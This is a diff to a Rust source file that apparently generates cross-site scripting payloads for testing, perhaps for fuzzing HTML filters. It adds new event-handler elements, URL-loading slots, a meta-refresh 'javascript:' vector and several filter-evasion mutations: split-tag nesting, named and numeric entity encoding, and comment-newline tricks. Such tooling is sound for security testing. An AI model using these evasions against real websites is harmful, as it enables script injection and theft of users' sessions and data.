@@ -44,6 +44,11 @@ const HOSTS: &[(&str, &str, &[&str])] = &[
     ("style", "", &["onload"]),
     ("object", "data=x", &["onerror"]),
     ("animate", "attributeName=x dur=1s", &["onbegin", "onend"]),
+    ("button", "popovertarget=x", &["onbeforetoggle", "onfocus"]),
+    ("video", "autoplay muted src=x.mp4", &["onplay", "onloadeddata", "oncanplay"]),
+    ("svg", "", &["onresize", "onfocusin"]),
+    ("p", "style=transition:color 1s", &["ontransitionend", "ontransitionrun"]),
+    ("source", "src=x", &["onerror"]),
 ];
 /// Elements and the attribute that takes a URL they load or navigate to.
 const URL_SLOTS: &[(&str, &str, &str)] = &[
@@ -59,6 +64,8 @@ const URL_SLOTS: &[(&str, &str, &str)] = &[
     ("<svg><set attributeName=href ", "to", "/></svg>"),
     ("<isindex type=image ", "action", ">"),
     ("<frameset><frame ", "src", ">"),
+    ("<svg><use ", "href", "/></svg>"),
+    ("<svg><animate attributeName=href dur=5s repeatCount=indefinite keytimes=0;0;1 ", "values", "/><a><text>x</text></a></svg>"),
 ];
 const BREAKOUTS: &[&str] =
     &["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\"/>", "'\">", "</noscript>", ">"];
@@ -79,8 +86,26 @@ impl Family for XssHtml {
             0..=4 => event_handler(rng, &js, &mut muts),
             5 | 6 => script(rng, &js, &mut muts),
             7..=9 => url_vector(rng, &js, &mut muts),
+            10 if rng.chance(0.2) => {
+                muts.push("meta-refresh");
+                let url = script_url(rng, &js, &mut muts);
+                format!("<meta http-equiv=\"refresh\" content=\"0;url={}\">", url.replace('"', "&quot;"))
+            }
             10 => data_or_srcdoc(rng, &js, &mut muts),
             _ => attribute_breakout(rng, &js, &mut muts),
+        };
+        // `<scr<script>ipt>`: a filter that strips the tag once leaves the outer one.
+        let payload = if let Some(name) = payload.strip_prefix('<').and_then(|p| p.split(|c: char| !c.is_ascii_alphanumeric()).next()).filter(|n| n.len() >= 3) {
+            if rng.chance(0.08) {
+                muts.push("filter-nesting");
+                let k = name.len() / 2;
+                let name = name.to_string();
+                format!("<{}<{name}>{}", &name[..k], &payload[1 + k..])
+            } else {
+                payload
+            }
+        } else {
+            payload
         };
         let payload = if payload.starts_with('<') && rng.chance(0.3) {
             muts.push("context-breakout");
@@ -126,6 +151,27 @@ fn name_case(rng: &mut Rng, name: &str, muts: &mut Vec<&'static str>) -> String 
 }
 
 fn attr_value_js(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    if rng.chance(0.12) {
+        // HTML5 named references for the punctuation: `alert&lpar;1&rpar;`.
+        muts.push("named-entities");
+        return js
+            .chars()
+            .map(|c| match c {
+                '(' => "&lpar;".to_string(),
+                ')' => "&rpar;".to_string(),
+                '.' => "&period;".to_string(),
+                '[' => "&lsqb;".to_string(),
+                ']' => "&rsqb;".to_string(),
+                ',' => "&comma;".to_string(),
+                '+' => "&plus;".to_string(),
+                '{' => "&lcub;".to_string(),
+                '}' => "&rcub;".to_string(),
+                '$' => "&dollar;".to_string(),
+                '`' => "&grave;".to_string(),
+                _ => c.to_string(),
+            })
+            .collect();
+    }
     if rng.chance(0.25) {
         muts.push("entities");
         html_entities(rng, js, 0.4)
@@ -213,7 +259,19 @@ fn script_url(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
     } else {
         ":"
     };
+    if !scheme.contains('&') && rng.chance(0.12) {
+        // Every scheme letter as a character reference: `&#106;&#x61;...`.
+        muts.push("entity-scheme");
+        scheme = scheme.chars().map(|c| if c.is_ascii_alphanumeric() { html_entities(rng, &c.to_string(), 1.0) } else { c.to_string() }).collect();
+    }
     let body = attr_value_js(rng, js, muts);
+    if rng.chance(0.12) {
+        // `javascript://%0aalert(1)`: a line comment the URL's own newline ends.
+        muts.push("js-comment-newline");
+        // Encoded: the URL parser strips a raw (or entity-decoded) newline, not `%0a`.
+        let nl = *rng.pick(&["%0a", "%0A", "%0d", "%E2%80%A8", "%E2%80%A9"]);
+        return format!("{scheme}{colon}//{}{nl}{body}", rng.pick(&["", "x", "comment"]));
+    }
     format!("{scheme}{colon}{body}")
 }
 
